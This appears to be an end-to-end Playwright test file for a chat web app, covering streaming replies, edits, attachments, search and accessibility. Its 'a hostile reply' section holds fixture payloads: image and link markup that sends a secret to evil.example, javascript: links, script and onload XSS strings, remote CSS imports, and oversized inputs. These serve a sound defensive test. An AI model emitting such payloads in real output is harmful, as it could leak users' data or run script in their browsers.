import type { BrowserContextOptions, Page } from "playwright-core"
import { afterEach, describe, expect, it } from "vitest"
import { writeFailure } from "#server/chat/failure-contract.ts"
import { inAll, sample } from "../support/all.ts"
import { faultsInEveryLook, faultsOf } from "../support/axe.ts"
import { takenOver } from "../support/browser.ts"
import { openChatBrowser } from "../support/chat-browser.ts"
import { withResource } from "../support/with-resource.ts"

const chat = withResource(openChatBrowser)
afterEach(async () => {
  expect(await chat.endPages()).toEqual([])
})

const SOON = { timeout: 15_000 }

const open = (path = "/dashboard/chat", options?: BrowserContextOptions) => chat.open(path, options)

describe("a long reply", () => {
  it("continues through a reload, grows in a second window and is stopped there, with nothing doubled or lost", async () => {
    const one = await open()
    await ask(one, "/long 4000")
    await one.waitForURL(/\/dashboard\/chat\/[0-9a-f-]{36}$/)
    await says(one, "word 40,")
    await one.reload()
    const other = await open(new URL(one.url()).pathname)
    const readings = await watch(other)
    const next = `word ${count(await lastReply(other)) + 200},`
    await Promise.all([says(one, next), says(other, next)])

    await other.getByRole("button", { name: "Stop generating" }).click()
    await Promise.all([one, other].map((page) => page.getByText("You stopped this reply.").waitFor()))
    const [stored] = await chat.sql<{ content: string }[]>`
      select content from chat_messages where role = 'assistant' order by _id desc limit 1`
    const said = words(stored?.content ?? "")
    expect(said.match(/word \d+/g)).toEqual(Array.from({ length: count(said) }, (_, i) => `word ${i + 1}`))
    for (const page of [one, other])
      await expect.poll(async () => words(await lastReply(page)), SOON).toBe(said)

    const seen = (await readings()).map(count)
    expect(seen).toEqual(seen.toSorted((a, b) => a - b))
    // In how many steps depends on the machine.
    expect(new Set(seen).size).toBeGreaterThan(1)
    expect(await one.getByRole("log").getByRole("article").count()).toBe(2)
  })

  inAll("appears as it is stored, from first to last word, in the tab that sent the message", async () => {
    const page = await open()
    await ask(page, "/long 300")
    await page.waitForURL(/\/dashboard\/chat\/[0-9a-f-]{36}$/)
    await ended(page)
    const [stored] = await chat.sql<{ content: string }[]>`
      select content from chat_messages where role = 'assistant' order by _id desc limit 1`
    const said = words(stored?.content ?? "")
    expect(count(said)).toBe(300)
    await expect.poll(async () => words(await lastReply(page)), SOON).toBe(said)
  })

  inAll("is announced even if it ended before its new conversation was shown", async () => {
    const page = await open()
    await page.route(/\/dashboard\/chat\/[^/]+\.data/, async (route) => {
      await expect
        .poll(() => chat.sql`select status from chat_turns order by _id desc limit 1`, SOON)
        .toEqual([{ status: "completed" }])
      await route.continue()
    })
    await ask(page, "Are you quick?")
    await page.waitForURL(/\/dashboard\/chat\/[0-9a-f-]{36}$/)
    await ended(page)
  })

  const ways = [
    [
      "by a request, where no live connection can be opened",
      "delete window.SharedWorker; delete window.WebSocket",
      1,
    ],
    ["over its live connection", "delete window.SharedWorker", 0],
  ] as const

  it.each(sample(ways, 2))("is stopped %s", async (_, browserWithout, requests) => {
    const page = await open()
    await page.addInitScript(browserWithout)
    const stops: string[] = []
    page.on("request", (request) => request.url().endsWith("/stop") && stops.push(request.url()))
    const live = Promise.withResolvers<void>()
    page.on("websocket", (socket) =>
      socket.on("framereceived", ({ payload }) => String(payload).includes('"snapshot"') && live.resolve()),
    )
    await page.goto(chat.origin + (await chat.thread(2)))
    await takenOver(page)
    if (requests === 0) await live.promise
    await ask(page, "/slow 30")
    await says(page, "Development gateway")
    await page.getByRole("button", { name: "Stop generating" }).click()
    await page.getByText("You stopped this reply.").waitFor()
    expect(stops).toHaveLength(requests)
  })

  inAll("is stopped with Escape wherever the focus is", async () => {
    const page = await open()
    await ask(page, "/slow 20")
    await says(page, "Development gateway")
    await page.getByRole("link", { name: "Files" }).first().focus()
    await page.keyboard.press("Escape")
    await page.getByText("You stopped this reply.").waitFor()
  })

  inAll("is stopped with Escape while a menu fades out, and not by the Escape that closed it", async () => {
    const page = await open()
    await ask(page, "/long 4000")
    await says(page, "word 20,")
    await page.getByRole("button", { name: "More actions for" }).first().click()
    const menu = page.getByRole("menu")
    await menu.evaluate((popup: HTMLElement) => (popup.style.transitionDuration = "3600s"))
    await page.keyboard.press("Escape")
    await page.locator("[role=menu][data-closed]").waitFor()
    await says(page, `word ${count(await lastReply(page)) + 80},`)
    await page.keyboard.press("Escape")
    await page.getByText("You stopped this reply.").waitFor()
  })

  inAll("does not scroll anyone who reads further up, and offers a way back to its end", async () => {
    const page = await open(await chat.thread(40))
    await ask(page, "/long 1500")
    await says(page, "word 20,")
    const log = page.getByRole("group", { name: "Conversation" })
    await log.hover()
    await page.mouse.wheel(0, -600)
    await page.getByRole("button", { name: "Go to the latest message" }).waitFor()
    const place = await topOf(page, "Question 34")
    await says(page, `word ${count(await lastReply(page)) + 80},`)
    expect(Math.abs((await topOf(page, "Question 34")) - place)).toBeLessThan(4)
    await page.getByRole("button", { name: "Go to the latest message" }).click()
    await expect.poll(() => log.evaluate((box) => box.scrollTop), SOON).toBe(0)
    await page.keyboard.press("Escape")
    await page.getByText("You stopped this reply.").waitFor()
  })

  it("is announced to screen readers when it begins and when it ends, and not in between", async () => {
    const page = await open()
    const status = page.getByRole("status").filter({ hasText: /The reply/ })
    await ask(page, "/long 200")
    await status.getByText("The reply is being written.").waitFor()
    await status.getByText("The reply is complete.").waitFor()
    expect(await page.getByRole("log").getAttribute("aria-live")).toBe("off")
  })
})

describe("the chat in German", () => {
  inAll("shows everything in German except the model's text", async () => {
    const page = await open("/dashboard/chat", { locale: "de-DE" })
    await page.getByRole("heading", { name: "Was möchten Sie wissen?" }).waitFor()
    await page.getByLabel("Ihre Nachricht").fill("/slow 20")
    await page.keyboard.press("Enter")
    await says(page, "Development gateway")
    await page.getByRole("button", { name: "Antwort anhalten" }).click()
    await page.getByText("Sie haben diese Antwort angehalten.").waitFor()
    await page.getByRole("region", { name: "Heute" }).getByText("/slow 20").first().waitFor()
  })
})

describe("a reply or its message", () => {
  inAll("is replaced by editing the message, which removes everything after it", async () => {
    const page = await open()
    await ask(page, "The first question")
    await ended(page)
    await ask(page, "The second question")
    await says(page, "The second question")
    await ended(page)
    await page.getByLabel("Your question").press("ArrowUp")
    const editor = page.getByLabel("Your edited message")
    expect(await editor.inputValue()).toBe("The second question")
    await editor.press("Escape")
    await editor.waitFor({ state: "detached" })

    await page.getByRole("article", { name: "You" }).first().hover()
    await page.getByRole("button", { name: "Edit message" }).first().click()
    await editor.fill("Another first question")
    await editor.press("Enter")
    await says(page, "Another first question")
    await ended(page)
    const log = page.getByRole("log")
    await expect.poll(() => log.getByRole("article").count(), SOON).toBe(2)
    expect(await log.innerText()).not.toMatch(/The (first|second) question/)
    await page.reload()
    await page.getByText("Another first question").first().waitFor()
    expect(await log.getByRole("article").count()).toBe(2)
  })

  it("shows earlier versions of an edited message, in a narrow window too", async () => {
    const page = await open()
    await ask(page, "Which **sea** is deep?")
    await ended(page)
    await page.getByLabel("Your question").press("ArrowUp")
    const editor = page.getByLabel("Your edited message")
    await editor.fill("Which ocean is deep?")
    await editor.press("Enter")
    await says(page, "Which ocean is deep?")
    await ended(page)

    await page.getByRole("button", { name: "Earlier versions" }).click()
    const dialog = page.getByRole("dialog", { name: "Earlier versions" })
    await dialog.getByText("Which **sea** is deep?").first().waitFor()
    expect(await dialog.getByRole("article").count()).toBe(2)
    expect(await dialog.innerText()).not.toContain("ocean")
    expect(await faultsOf(page)).toEqual([])
    await page.setViewportSize({ width: 390, height: 844 })
    expect(await dialog.evaluate((one) => one.scrollWidth <= one.clientWidth)).toBe(true)
    await page.keyboard.press("Escape")
    await dialog.waitFor({ state: "detached" })
  })

  inAll("is regenerated, and can still be read", async () => {
    const page = await open()
    await ask(page, "What time is it?")
    await ended(page)
    const first = await page
      .getByRole("article", { name: "Answer" })
      .getByRole("paragraph")
      .first()
      .innerText()
    expect(await page.getByRole("button", { name: "Earlier versions" }).count()).toBe(0)
    const before = await page.getByRole("article", { name: "Answer" }).getAttribute("id")
    await page.getByRole("button", { name: "Regenerate" }).click()
    await expect
      .poll(() => page.getByRole("article", { name: "Answer" }).getAttribute("id"), SOON)
      .not.toBe(before)
    await ended(page)
    expect(await page.getByRole("log").getByRole("article").count()).toBe(2)

    await page.getByRole("button", { name: "Earlier versions" }).click()
    const dialog = page.getByRole("dialog", { name: "Earlier versions" })
    await dialog.getByRole("article", { name: "Answer" }).waitFor()
    expect(await dialog.innerText()).toContain(first)
    expect(await faultsOf(page)).toEqual([])
  })

  inAll("is retried where the model failed", async () => {
    const page = await open()
    await ask(page, "/fail500")
    const again = page.getByRole("button", { name: "Try again" })
    await again.click()
    await page.getByText("The reply is being written.").waitFor({ state: "attached" })
    await again.waitFor()
    expect(await page.getByRole("log").getByRole("article").count()).toBe(2)
  })

  inAll("is continued after it was stopped at thirty seconds", async () => {
    const page = await open(await chat.thread(2, { status: "timeout" }))
    await page.getByText("Stopped at the time limit.").waitFor()
    await page.getByRole("button", { name: "Continue" }).click()
    await says(page, "Continue where you stopped.")
    await ended(page)
  })

  inAll("shows the tools and the reasoning behind it", async () => {
    const page = await open()
    await ask(page, '/tool currentTime {"timeZone":"Europe/Lisbon"}')
    await page.getByText("Checked the time").click()
    await page.getByRole("group", { name: "Request to currentTime" }).getByText("Europe/Lisbon").waitFor()
    await page.getByRole("group", { name: "Answered" }).waitFor()
    await ended(page)
    await ask(page, "/reasoning")
    const thought = page.getByText("Then a second thought.")
    await page.getByText("Reasoning").waitFor()
    expect(await thought.isVisible()).toBe(false)
    await page.getByText("Reasoning", { exact: true }).click()
    await thought.waitFor()
    await ended(page)
  })

  inAll("has code to copy, highlighted once it is complete", async () => {
    const page = await open("/dashboard/chat", { permissions: ["clipboard-read", "clipboard-write"] })
    await ask(page, "/markdown")
    await ended(page)
    await page.locator("code span", { hasText: "function" }).first().waitFor()
    await page.getByRole("button", { name: "Wrap lines" }).click()
    await page.getByRole("button", { name: "Wrap lines", pressed: true }).waitFor()
    await page.getByRole("button", { name: "Copy code" }).click()
    await page.getByRole("button", { name: "Copied" }).waitFor()
    expect(await page.evaluate("navigator.clipboard.readText()")).toBe(
      "export function greet(name: string) {\n  return `Hello, ${name}`\n}",
    )
  })

  it("is copied with its formatting, and without what only this page shows", async () => {
    const said = [
      "## Tides\n\nHigh **water** at [noon](https://example.org/a?b=1&c=2), low at `six`.",
      "- one\n- two",
      "| Port | Time |\n| --- | ---: |\n| Dover | 12:00 |",
      "```ts\nconst tide = 1 < 2\n```",
      "It is $e = mc^2$.",
    ].join("\n\n")
    const page = await open(await chat.thread(0, { say: said }), {
      permissions: ["clipboard-read", "clipboard-write"],
    })
    await page.locator("math").waitFor()
    await page.getByRole("button", { name: "Copy reply" }).click()
    await page.getByRole("button", { name: "Copied" }).waitFor()
    expect(await page.evaluate("navigator.clipboard.readText()")).toBe(said)
    const pasted = await paste(page)
    for (const html of [
      /<h\d[^>]*>Tides<\/h\d>/,
      /<strong[^>]*>water<\/strong>/,
      /<a href="https:\/\/example\.org\/a\?b=1&amp;c=2"[^>]*>noon<\/a>/,
      /<code[^>]*>six<\/code>/,
      /<li[^>]*>one<\/li>/,
      /<td align="right"[^>]*>12:00<\/td>/,
      /<pre[^>]*><code[^>]*>const tide = 1 &lt; 2<\/code><\/pre>/,
      /<math/,
    ])
      expect(pasted.html).toMatch(html)
    expect(pasted.html).not.toMatch(/class=|<button|<svg|<script/)
    expect(pasted.text).not.toMatch(/\bts\b|Copy/)

    await page.getByRole("button", { name: "Copy code" }).click()
    await expect.poll(() => page.evaluate("navigator.clipboard.readText()")).toBe("const tide = 1 < 2")
    expect((await paste(page)).html).toMatch(/<pre[^>]*>const tide = 1 &lt; 2<\/pre>/)
  })

  inAll("shows formulas, in a font for them that only they load", async () => {
    const page = await open("/dashboard/chat")
    expect(await mathFonts(page)).toEqual(["unloaded"])
    const path = await chat.thread(0, { say: "It is $e = mc^2$, and\n\n$$\\frac{a}{b}$$" })
    await page.goto(new URL(path, page.url()).href)
    await page.locator("math mfrac").waitFor()
    await expect.poll(() => mathFonts(page)).toEqual(["loaded"])
    expect(await page.locator("math").count()).toBe(2)
    expect(await page.locator("[role=log] [style]").count()).toBe(0)
  })
})

/** The state of every font face for formulas. */
function mathFonts(page: Page): Promise<string[]> {
  return page.evaluate(() =>
    [...document.fonts].filter(({ family }) => family.includes("STIX Two Math")).map(({ status }) => status),
  )
}

describe("what the model did not receive", () => {
  it("is marked in the conversation: where it begins, what is left out, and why", async () => {
    const path = await chat.thread(8)
    const threadId = path.split("/").at(-1) ?? ""
    const rows = await chat.sql`select _id from chat_messages where thread_id = ${threadId} order by _id`
    const ids = rows.map((row) => String(row["_id"]))
    await chat.sql`
      update chat_turns set recall = ${chat.sql.json({ from: ids[2] ?? "", without: ["images"] })}
      where _id = ${ids[7] ?? ""}`
    await fail(ids[3], "images-not-supported")
    await fail(ids[5], "message-too-long-for-model")
    const page = await open(path)
    const line = page.getByText("Earlier messages are no longer sent to the model")
    await line.waitFor()
    const [before, at, after] = await Promise.all(
      [page.getByText("Answer 1"), line, page.getByText("Question 2")].map((one) => one.boundingBox()),
    )
    expect(before?.y).toBeLessThan(at?.y ?? 0)
    expect(at?.y).toBeLessThan(after?.y ?? 0)
    const replies = page.getByRole("log").getByRole("article", { name: "Answer" })
    await replies.nth(1).getByText("The model refused the image. It isn't sent to the model again.").waitFor()
    await replies
      .nth(2)
      .getByText("The model refused this message. It isn't sent to the model again.")
      .waitFor()
    await replies
      .nth(3)
      .getByText("Earlier images were left out, because the model can't receive them.")
      .waitFor()

    await fail(ids[7], "images-not-supported")
    await page.getByText("This model can't receive images. Send the message without them").waitFor()
  })
})

describe("a message that was refused", () => {
  inAll("returns to the input with the time to wait", async () => {
    const page = await open(await chat.thread(2))
    await page.route("**/api/chat", (route) =>
      route.fulfill({ status: 429, headers: { "retry-after": "3" }, json: { error: "Too many requests" } }),
    )
    await ask(page, "Is this too much?")
    await page.getByText(/You can send again in \d seconds?\./).waitFor()
    expect(await page.getByLabel("Your question").inputValue()).toBe("Is this too much?")
    expect(await page.getByRole("log").getByRole("article").count()).toBe(2)
    await page.unroute("**/api/chat")
    await page.getByText(/You can send again/).waitFor({ state: "detached" })
    await page.getByRole("button", { name: "Send" }).click()
    await says(page, "Is this too much?")
    await ended(page)
    chat.forgive(/429/)
  })

  it("is not sent twice if only the confirmation was lost", async () => {
    const page = await open(await chat.thread(2))
    await page.route("**/api/chat", async (route) => {
      await route.fetch()
      await route.abort()
    })
    await ask(page, "Did you hear me?")
    await ended(page)
    await expect.poll(() => page.getByLabel("Your question").inputValue(), SOON).toBe("")
    expect(
      await page.getByRole("article", { name: "You" }).filter({ hasText: "Did you hear me?" }).count(),
    ).toBe(1)
    chat.forgive(/ERR_FAILED/)
  })

  it("is a new one if its files are changed before it is sent again", async () => {
    const page = await open(await chat.thread(2))
    const ids: string[] = []
    await page.route("**/api/chat", (route) => {
      const { messages } = route.request().postDataJSON() as { messages: { id: string }[] }
      ids.push(...messages.map(({ id }) => id))
      return ids.length < 3 ? route.abort() : route.continue()
    })
    await page.getByLabel("Files from this device").setInputFiles({
      name: "old chart.txt",
      mimeType: "text/plain",
      buffer: Buffer.from("12 m"),
    })
    await page.getByRole("list", { name: "Attached files" }).getByText("4 B").waitFor()
    await ask(page, "How deep is it?")
    const send = page.getByRole("button", { name: "Send" })
    await expect.poll(() => page.getByLabel("Your question").inputValue(), SOON).toBe("How deep is it?")
    await send.click()
    await expect.poll(() => ids.length, SOON).toBe(2)
    await page.getByRole("button", { name: "Remove old chart.txt" }).click()
    await send.click()
    await says(page, "How deep is it?")
    await ended(page)
    expect(ids[1]).toBe(ids[0])
    expect(ids[2]).not.toBe(ids[0])
    expect(await page.getByRole("log").getByRole("link", { name: "old chart.txt" }).count()).toBe(0)
    chat.forgive(/ERR_FAILED/)
  })

  inAll("creates its conversation by one request, even if only the confirmation was lost", async () => {
    const page = await open()
    const posts: string[] = []
    page.on("request", (request) => {
      if (request.method() === "POST") posts.push(new URL(request.url()).pathname)
    })
    await page.route("**/api/chat", async (route) => {
      await route.fetch()
      await route.abort()
    })
    await ask(page, "Is anybody out there?")
    await page.waitForURL(/\/dashboard\/chat\/[0-9a-f-]{36}$/)
    await says(page, "Is anybody out there?")
    await ended(page)
    expect(posts).toEqual(["/api/chat"])
    await page.getByRole("link", { name: "New conversation" }).click()
    expect(await page.getByLabel("Your question").inputValue()).toBe("")
    chat.forgive(/ERR_FAILED/)
  })

  inAll("creates no conversation", async () => {
    const page = await open()
    await page.route("**/api/chat", (route) =>
      route.fulfill({ status: 429, headers: { "retry-after": "2" }, json: { error: "Too many requests" } }),
    )
    await page.getByRole("button", { name: "What time is it in Lisbon and in Tokyo?" }).click()
    await page.getByText("Too many messages sent").waitFor()
    expect(new URL(page.url()).pathname).toBe("/dashboard/chat")
    expect(await page.getByLabel("Your question").inputValue()).toBe(
      "What time is it in Lisbon and in Tokyo?",
    )
    await page.unroute("**/api/chat")
    await page.getByText(/You can send again/).waitFor({ state: "detached" })
    await page.getByRole("button", { name: "Send" }).click()
    await says(page, "What time is it in Lisbon and in Tokyo?")
    await ended(page)
    chat.forgive(/429/)
  })

  inAll("is kept as a draft for each conversation separately", async () => {
    const [first, second] = [await chat.thread(2), await chat.thread(2)]
    const page = await open(first)
    await page.getByLabel("Your question").fill("half a question")
    await page.goto(chat.origin + second)
    expect(await page.getByLabel("Your question").inputValue()).toBe("")
    await page.goto(chat.origin + first)
    await expect.poll(() => page.getByLabel("Your question").inputValue(), SOON).toBe("half a question")
  })
})

describe("attached files", () => {
  it("are sent with a message when they are dropped, and are shown with it", async () => {
    const page = await open()
    // The page that has the focus receives what is dropped.
    await page.locator("textarea:focus").waitFor()
    const dropped = await page.evaluateHandle(() => {
      const transfer = new DataTransfer()
      transfer.items.add(new File(["high water 06:12"], "tides.txt", { type: "text/plain" }))
      return transfer
    })
    await page.dispatchEvent("body", "dragenter", { dataTransfer: dropped })
    await page.getByText("Drop files to ask about them").waitFor()
    await page.dispatchEvent("body", "drop", { dataTransfer: dropped })
    await page.getByRole("list", { name: "Attached files" }).getByText("16 B").waitFor()
    await page.reload()
    await page.getByRole("button", { name: "Remove tides.txt" }).waitFor()
    await ask(page, "When is high water?")
    const question = page.getByRole("article", { name: "You" })
    await question.getByRole("link", { name: "tides.txt" }).waitFor()
    await ended(page)
    await chat.sql`update files set trashed = true, trashed_at = ${Date.now()} where file_name = 'tides.txt'`
    await question.getByText("This file was deleted").waitFor()
  })

  inAll("that are images are shown as thumbnails, loaded from this site only", async () => {
    const page = await open()
    const pixel =
      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    await page.getByLabel("Files from this device").setInputFiles({
      name: "buoy.png",
      mimeType: "image/png",
      buffer: Buffer.from(pixel, "base64"),
    })
    await page.getByRole("list", { name: "Attached files" }).locator("img").waitFor()
    await ask(page, "What is on it?")
    const picture = page.getByRole("article", { name: "You" }).getByRole("img", { name: "buoy.png" })
    await expect
      .poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth), SOON)
      .toBeGreaterThan(0)
    expect(await picture.getAttribute("src")).toMatch(/^\/api\/files\/[\w-]+\/thumbnail$/)
    await ended(page)
  })

  inAll("are chosen from the stored files, by name and by keyboard alone", async () => {
    await chat.person("/api/files?name=harbour.txt", { method: "POST", body: "a list of moorings" })
    const page = await open()
    await page.getByRole("button", { name: "Add files" }).focus()
    await page.keyboard.press("Enter")
    await page.getByRole("menuitem", { name: "From your files" }).waitFor()
    await page.keyboard.press("Enter")
    await page.getByLabel("Find a file by name").waitFor()
    await page.keyboard.type("harb")
    await expect
      .poll(() => page.getByRole("list", { name: "Your files" }).getByRole("listitem").count(), SOON)
      .toBe(1)
    await page.keyboard.press("ArrowDown")
    await page.keyboard.press("Enter")
    await page.keyboard.press("Escape")
    await page.getByRole("button", { name: "Remove harbour.txt" }).waitFor()
  })

  inAll("that are neither text nor image are refused with a reason", async () => {
    const page = await open()
    await page.getByLabel("Files from this device").setInputFiles({
      name: "letter.pdf",
      mimeType: "application/pdf",
      buffer: Buffer.from("%PDF-1.7\n%âãÏÓ\n1 0 obj\n<<>>\nendobj\n"),
    })
    const reason = page.getByText("The model can only read text and images.")
    await reason.waitFor()
    for (const width of [390, 1440]) {
      await page.setViewportSize({ width, height: 900 })
      expect(await reason.evaluate(isWhole), `at ${width}`).toBe(true)
    }
  })
})

describe("the list of conversations", () => {
  inAll("renames a conversation in place, and restores a deleted one", async () => {
    const path = await chat.thread(2, { title: "Moorings" })
    const page = await open(path)
    const list = page.getByRole("navigation", { name: "Conversations" })
    await list.getByRole("link", { name: "Moorings" }).hover()
    await list.getByRole("button", { name: "More actions for Moorings" }).click()
    await page.getByRole("menuitem", { name: "Rename" }).click()
    await page.getByLabel("Title").fill("Berths")
    await page.keyboard.press("Enter")
    await page.getByRole("heading", { level: 1, name: "Berths" }).waitFor()

    await page
      .getByRole("banner")
      .or(page.locator("header"))
      .getByRole("button", { name: "More actions for Berths" })
      .click()
    await page.getByRole("menuitem", { name: "Delete" }).click()
    await page.waitForURL(/\/dashboard\/chat$/)
    await list.getByRole("link", { name: "Berths" }).waitFor({ state: "detached" })
    await page.getByRole("button", { name: "Undo" }).click()
    await page.waitForURL(`${chat.origin}${path}`)
    await list.getByRole("link", { name: "Berths" }).waitFor()
    await page.getByText("Question 0").waitFor()
  })

  it("finds a message and opens it, however far back it is", async () => {
    const path = await chat.thread(130, { title: "A long talk", first: "Where do the xylophones sleep?" })
    const page = await open()
    await page.getByLabel("Search conversations").fill("xylophon")
    const found = page.getByRole("list", { name: "Found" }).getByRole("link")
    await found.first().waitFor()
    expect(await found.first().locator("mark").innerText()).toMatch(/^xylophon/)
    await found.first().click()
    await page.waitForURL((url) => url.pathname === path && url.hash.startsWith("#message-"))
    const message = page.getByText("Where do the xylophones sleep?").last()
    await message.waitFor()
    await expect.poll(() => isInSight(page, "Where do the xylophones sleep?"), SOON).toBe(true)
  })

  inAll("saves a conversation as a file", async () => {
    const page = await open(await chat.thread(4, { title: "To be saved" }))
    await page.locator("header").getByRole("button", { name: "More actions for To be saved" }).click()
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("menuitem", { name: "Export as Markdown" }).click(),
    ])
    expect(download.suggestedFilename()).toMatch(/\.md$/)
  })

  inAll("starts a new conversation with a shortcut", async () => {
    const page = await open(await chat.thread(2))
    await page.keyboard.press("Control+Shift+O")
    await page.waitForURL(/\/dashboard\/chat$/)
    await page.getByRole("heading", { name: "What would you like to know?" }).waitFor()
  })
})

describe("a long conversation", () => {
  inAll("is at its end before any script has run", async () => {
    const page = await open(await chat.thread(60), { javaScriptEnabled: false })
    expect(await isInSight(page, "Answer 59")).toBe(true)
  })

  inAll("loads earlier messages when scrolled up, without moving the view", async () => {
    const page = await open(await chat.thread(130))
    const log = page.getByRole("log").getByRole("article")
    expect(await log.count()).toBeLessThan(130)
    await page.getByRole("group", { name: "Conversation" }).hover()
    await expect
      .poll(async () => {
        await page.mouse.wheel(0, -3000)
        return log.count()
      }, SOON)
      .toBe(130)
    await expect
      .poll(async () => {
        await page.mouse.wheel(0, -3000)
        return isInSight(page, "Question 0")
      }, SOON)
      .toBe(true)
  })
})

describe("a hostile reply", () => {
  const HOSTILE = [
    "![leak](https://evil.example/p.png?of=secret) ![leak][1] <img src='https://evil.example/i.png'>",
    "[1]: https://evil.example/reference.png",
    "[here](javascript:alert(1)) <script>alert(1)</script> <svg onload=alert(1)>",
    "<link rel=stylesheet href=https://evil.example/a.css><style>@import 'https://evil.example/b.css'</style>",
    "$\\includegraphics{https://evil.example/m.png}$ $\\href{javascript:alert(1)}{x}$",
    "```html\n<img src=https://evil.example/code.png>\n```",
  ].join("\n\n")

  inAll.each([
    ["with images, links, HTML and formulas that lead elsewhere", HOSTILE],
    ["of a million characters in one line", "x".repeat(1_000_000)],
    [
      "of ten thousand nested lists",
      Array.from({ length: 10_000 }, (_, i) => `${" ".repeat(Math.min(i, 90) * 2)}- x`).join("\n"),
    ],
    ["of ten thousand lists in one line", `${"- ".repeat(10_000)}x`],
  ])("%s requests nothing and blocks nothing", async (_, say) => {
    const path = await chat.thread(2, { say })
    const html = await (await chat.person(path)).text()
    expect(html.match(/<(?:img|link|script|source|iframe)[^>]*evil\.example[^>]*>/g)).toBeNull()
    const page = await open()
    const foreignRequests: string[] = []
    page.on("request", (request) => {
      if (/^https?:/.test(request.url()) && !request.url().startsWith(chat.origin))
        foreignRequests.push(request.url())
    })
    await page.goto(chat.origin + path)
    await page.getByText("Question 2").waitFor()
    await takenOver(page)
    await page.getByLabel("Your question").fill("still awake?")
    await expect.poll(() => page.getByLabel("Your question").inputValue(), SOON).toBe("still awake?")
    await page.getByLabel("Your question").fill("")
    await page.waitForTimeout(500) // catches anything that would load late
    expect(foreignRequests).toEqual([])
    expect(await page.locator("[role=log] a[href^='javascript:']").count()).toBe(0)
  })
})

describe("every page of the chat", () => {
  inAll(
    "has no accessibility violations in light and dark colours and fits into narrow and wide windows",
    { timeout: 120_000 },
    async () => {
      const page = await open("/dashboard/chat", { reducedMotion: "reduce" })
      expect(await faultsInEveryLook(page), "a new conversation").toEqual([])
      await ask(page, "/markdown")
      await ended(page)
      await page.locator("code span", { hasText: "function" }).first().waitFor()
      await ask(page, "/tool currentTime {}")
      await page.getByText("Checked the time").click()
      await ended(page)
      expect(await faultsInEveryLook(page), "answers").toEqual([])
    },
  )

  inAll("is usable on a small screen with the on-screen keyboard open", async () => {
    const page = await open(await chat.thread(10), {
      viewport: { width: 390, height: 420 },
      hasTouch: true,
      isMobile: true,
    })
    const field = await page.getByLabel("Your question").boundingBox()
    expect((field?.y ?? 999) + (field?.height ?? 0)).toBeLessThan(420)
    await page.getByRole("button", { name: "Conversations" }).tap()
    await page.getByRole("dialog").getByLabel("Search conversations").waitFor()
  })
})

function ask(page: Page, question: string) {
  return page
    .getByLabel("Your question")
    .fill(question)
    .then(() => page.keyboard.press("Enter"))
}

function says(page: Page, text: string) {
  return page.getByRole("log").getByText(text).last().waitFor()
}

/** Waits until the reply that is being generated, or is about to be, has ended. */
async function ended(page: Page) {
  await page.getByText(/^The reply (is complete|ended early)\.$/).waitFor({ state: "attached" })
  await page.getByRole("button", { name: "Stop generating" }).waitFor({ state: "detached" })
}

function lastReply(page: Page) {
  return page.getByRole("article", { name: "Answer" }).last().locator("> div").first().innerText()
}

/** Records the text of the last reply, frame by frame. */
async function watch(page: Page) {
  await page.evaluate(() => {
    const readings: string[] = []
    Object.assign(window, { readings })
    const read = () => {
      const answers = document.querySelectorAll<HTMLElement>("[aria-label=Answer]")
      const text = [...answers].at(-1)?.innerText ?? ""
      if (text !== readings.at(-1)) readings.push(text)
      requestAnimationFrame(read)
    }
    read()
  })
  return () => page.evaluate(() => (window as unknown as { readings: string[] }).readings)
}

function words(text: string) {
  return text.replaceAll("**", "").replaceAll(/\s+/g, " ").trim()
}

function count(text: string) {
  return text.match(/word \d+/g)?.length ?? 0
}

async function topOf(page: Page, text: string) {
  const box = await page.getByText(text).first().boundingBox()
  return box?.y ?? Number.NaN
}

async function isInSight(page: Page, text: string) {
  const box = await page.getByText(text).last().boundingBox()
  return box !== null && box.y >= 0 && box.y + box.height <= (page.viewportSize()?.height ?? 0)
}

/** Whether all of an element's text fits into it. */
function isWhole({ scrollWidth, clientWidth, scrollHeight, clientHeight }: Element) {
  return scrollWidth <= clientWidth && scrollHeight <= clientHeight
}

/** What a program with formatting receives from the clipboard. */
async function paste(page: Page): Promise<{ html: string; text: string }> {
  await page.evaluate(() => {
    const editor = document.createElement("div")
    editor.contentEditable = "true"
    editor.id = "editor"
    document.getElementById("editor")?.remove()
    document.body.append(editor)
    editor.focus()
  })
  await page.keyboard.press("ControlOrMeta+V")
  return page.locator("#editor").evaluate((editor) => ({
    html: editor.innerHTML,
    text: editor.textContent ?? "",
  }))
}

/** The reply failed for this reason. */
async function fail(answerId: string | undefined, reason: Parameters<typeof writeFailure>[0]) {
  await chat.sql`
    update chat_turns set status = 'failed', failure = ${writeFailure(reason, "0a1b2c3d")}
    where _id = ${answerId ?? ""}`
  await chat.sql`update chat_messages set content = '' where _id = ${answerId ?? ""}`
}
